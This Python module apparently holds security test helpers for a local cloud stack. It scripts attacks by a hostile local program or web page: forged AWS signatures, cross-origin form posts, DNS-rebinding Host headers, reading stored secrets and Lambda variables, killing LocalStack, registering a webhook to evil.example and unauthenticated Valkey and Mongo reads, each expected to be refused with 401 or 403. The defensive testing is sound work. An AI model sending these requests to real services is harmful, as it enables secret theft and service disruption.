"""Attacks on the local cloud, as another program or a web page on this machine makes them.

Each returns what an attacker sees. None has a key of the stack.
"""

import http.client
import json
import socket
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from datetime import UTC, datetime
from typing import Any, NamedTuple
from urllib.parse import urlencode, urlsplit

import pymongo
from pymongo.errors import PyMongoError

from devstack.sam import ACCESS_KEY_ID
from devstack.state import LOOPBACK

EVIL = "http://evil.example"
EVIL_NAME = "evil"
FORM = {"Content-Type": "application/x-www-form-urlencoded"}
FUNCTIONS = "/2015-03-31/functions/"
TEMPLATE = json.dumps({"Resources": {"T": {"Type": "AWS::SNS::Topic"}}})
_SECONDS = 20


@dataclass(frozen=True)
class Target:
    """The addresses of a local cloud, which every program on the machine can find out."""

    api_path: str
    localstack: int
    stripe: int
    valkey: int
    mongo: int

    @classmethod
    def of(cls, environment: Mapping[str, str]) -> "Target":
        """Return the target that `make env` prints."""
        names = ("AWS_ENDPOINT_URL", "STRIPE_API_BASE", "GORDER_REDIS_URL", "GORDER_MONGO_URL")
        ports = (urlsplit(environment[name]).port or 0 for name in names)
        return cls(urlsplit(environment["GORDER_API_URL"]).path, *ports)


class Answer(NamedTuple):
    """An HTTP answer."""

    status: int
    headers: Mapping[str, str]
    body: str


def send(
    port: int, method: str, path: str, headers: Mapping[str, str] | None = None, body: str = ""
) -> Answer:
    """Send a request with exactly these headers, and Host."""
    connection = http.client.HTTPConnection(LOOPBACK, port, timeout=_SECONDS)
    try:
        connection.request(method, path, body.encode(), dict(headers or {}))
        response = connection.getresponse()
        text = response.read().decode(errors="replace")
        answered = {name.lower(): value for name, value in response.getheaders()}
        return Answer(response.status, answered, text)
    finally:
        connection.close()


def forged(service: str) -> dict[str, str]:
    """Return the headers of a signed request, with a signature that is made up."""
    now = f"{datetime.now(UTC):%Y%m%dT%H%M%SZ}"
    scope = f"{now[:8]}/us-east-1/{service}/aws4_request"
    authorization = (
        f"AWS4-HMAC-SHA256 Credential={ACCESS_KEY_ID}/{scope}, SignedHeaders=host;x-amz-date, "
        f"Signature={'0' * 64}"
    )
    return {"Authorization": authorization, "X-Amz-Date": now}


def _create_stack() -> str:
    """Return CreateStack as a form or a query."""
    parameters = {"StackName": EVIL_NAME, "TemplateBody": TEMPLATE, "Version": "2010-05-15"}
    return urlencode({"Action": "CreateStack", **parameters})


def create_stack_by_get(target: Target) -> Answer:
    """Create a CloudFormation stack as an image tag on a page would."""
    return send(target.localstack, "GET", f"/?{_create_stack()}")


def create_stack_by_post(target: Target) -> Answer:
    """Create a CloudFormation stack with a forged signature."""
    headers = {**forged("cloudformation"), **FORM}
    return send(target.localstack, "POST", "/", headers, _create_stack())


def create_stack_below_an_api(port: int, path: str) -> Answer:
    """Create a CloudFormation stack under the path of an API, which needs no signature."""
    headers = {**forged("cloudformation"), **FORM}
    return send(port, "POST", f"/_aws/execute-api/none/prod/{path}", headers, _create_stack())


def list_functions(target: Target) -> Answer:
    """List the functions, whose variables name every secret."""
    return send(target.localstack, "GET", FUNCTIONS)


def create_function(target: Target) -> Answer:
    """Create a function."""
    body = json.dumps({"FunctionName": EVIL_NAME, "Role": "arn:aws:iam::000000000000:role/r"})
    return send(target.localstack, "POST", FUNCTIONS.rstrip("/"), forged("lambda"), body)


def read_secret(target: Target) -> Answer:
    """Read the secret with Stripe's key."""
    headers = {
        **forged("secretsmanager"),
        "X-Amz-Target": "secretsmanager.GetSecretValue",
        "Content-Type": "application/x-amz-json-1.1",
    }
    return send(target.localstack, "POST", "/", headers, json.dumps({"SecretId": "gorder/stripe"}))


def read_a_bucket(target: Target) -> Answer:
    """Read the deployed artifacts, as a presigned URL would."""
    return send(
        target.localstack, "GET", "/gorder-artifacts?X-Amz-Credential=gorder&X-Amz-Expires=9"
    )


def read_messages(target: Target) -> Answer:
    """Read LocalStack's own page of the messages in queues."""
    return send(target.localstack, "GET", "/_aws/sqs/messages")


def end_localstack(target: Target) -> Answer:
    """End LocalStack by the path of its health check."""
    return send(
        target.localstack, "POST", "/_localstack/health", body=json.dumps({"action": "kill"})
    )


def reach_by_a_rebound_name(target: Target) -> Answer:
    """Send what a page sends whose name has been rebound to loopback."""
    host = {"Host": f"evil.example:{target.localstack}"}
    return send(target.localstack, "GET", f"{target.api_path}/api/menu", host)


def read_health_by_a_rebound_name(target: Target) -> Answer:
    """Read the server's health from a page whose name has been rebound to loopback."""
    host = {"Host": f"evil.example:{target.localstack}"}
    return send(target.localstack, "GET", "/_localstack/health", host)


def load_from_a_page(target: Target) -> Answer:
    """Load an image from a page of another site."""
    headers = {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Dest": "image"}
    return send(target.localstack, "GET", f"{target.api_path}/api/menu", headers)


def load_from_a_page_on_loopback(target: Target) -> Answer:
    """Load an image from a page on another port of loopback, which is the same site."""
    headers = {"Sec-Fetch-Site": "same-site", "Sec-Fetch-Dest": "image"}
    return send(target.localstack, "GET", f"{target.api_path}/api/menu", headers)


def order_from_a_page(target: Target) -> Answer:
    """Place an order from a page of another origin."""
    path = f"{target.api_path}/api/customer/eve/orders"
    headers = {"Origin": EVIL, "Content-Type": "text/plain"}
    return send(target.localstack, "POST", path, headers, "{}")


def list_functions_from_localstacks_site(target: Target) -> Answer:
    """List the functions from the web application of LocalStack's maker."""
    headers = {"Origin": "https://app.localstack.cloud"}
    return send(target.localstack, "GET", FUNCTIONS, headers)


def register_a_webhook(target: Target) -> Answer:
    """Send the stand-in's webhooks to the attacker, by a form on a page."""
    headers = {"Origin": EVIL, "Content-Type": "text/plain", "Sec-Fetch-Site": "cross-site"}
    body = json.dumps({"url": f"{EVIL}/hook", "secret": "whsec_evil"})
    return send(target.stripe, "POST", "/_test/webhook_endpoints", headers, body)


def reset_the_stand_in(target: Target) -> Answer:
    """Delete the stand-in's data as another program does."""
    headers = {"Content-Type": "application/json"}
    return send(target.stripe, "POST", "/_test/reset", headers, "{}")


def read_deliveries_by_a_rebound_name(target: Target) -> Answer:
    """Read the stand-in's webhooks from a page whose name has been rebound to loopback."""
    host = {"Host": f"evil.example:{target.stripe}"}
    return send(target.stripe, "GET", "/_test/deliveries", host)


def list_sessions_with_another_key(target: Target) -> Answer:
    """List the Checkout Sessions with a key of test mode that is not the stack's."""
    headers = {"Authorization": "Bearer sk_test_evil"}
    return send(target.stripe, "GET", "/v1/checkout/sessions", headers)


def pay_from_a_page(target: Target) -> Answer:
    """Press a button of the pay page by a form on another page."""
    headers = {
        "Origin": EVIL,
        "Sec-Fetch-Site": "cross-site",
        "Sec-Fetch-Dest": "document",
        **FORM,
    }
    return send(target.stripe, "POST", "/c/pay/cs_test_any", headers, "outcome=paid")


ATTACKS: tuple[Callable[[Target], Answer], ...] = (
    create_stack_by_get,
    create_stack_by_post,
    list_functions,
    create_function,
    read_secret,
    read_a_bucket,
    read_messages,
    end_localstack,
    reach_by_a_rebound_name,
    read_health_by_a_rebound_name,
    load_from_a_page,
    load_from_a_page_on_loopback,
    order_from_a_page,
    list_functions_from_localstacks_site,
    register_a_webhook,
    reset_the_stand_in,
    read_deliveries_by_a_rebound_name,
    list_sessions_with_another_key,
    pay_from_a_page,
)
"""Requests without a key. Each must be answered 401 or 403."""


def read_valkey(target: Target) -> str:
    """Ask Valkey for its keys without a password, and return the first line of its answer."""
    with socket.create_connection((LOOPBACK, target.valkey), timeout=_SECONDS) as connection:
        connection.sendall(b"KEYS *\r\n")
        return connection.recv(1024).decode().partition("\r\n")[0]


def read_mongo(target: Target) -> list[dict[str, Any]] | str:
    """Read orders without a password. Returns them, or the name of the error."""
    client: pymongo.MongoClient[dict[str, Any]]
    with pymongo.MongoClient(LOOPBACK, target.mongo, directConnection=True) as client:
        try:
            return list(client.gorder.orders.find().limit(1))
        except PyMongoError as error:
            return str((getattr(error, "details", None) or {}).get("codeName", error))


def take_an_event(port: int) -> bytes:
    """Ask the runtime API of a function's process for its next event, and return the answer."""
    with socket.create_connection((LOOPBACK, port), timeout=_SECONDS) as connection:
        connection.sendall(
            f"GET /2018-06-01/runtime/invocation/next HTTP/1.1\r\nHost: {LOOPBACK}:{port}\r\n"
            "\r\n".encode()
        )
        try:
            return connection.recv(1024)
        except ConnectionError:
            return b""
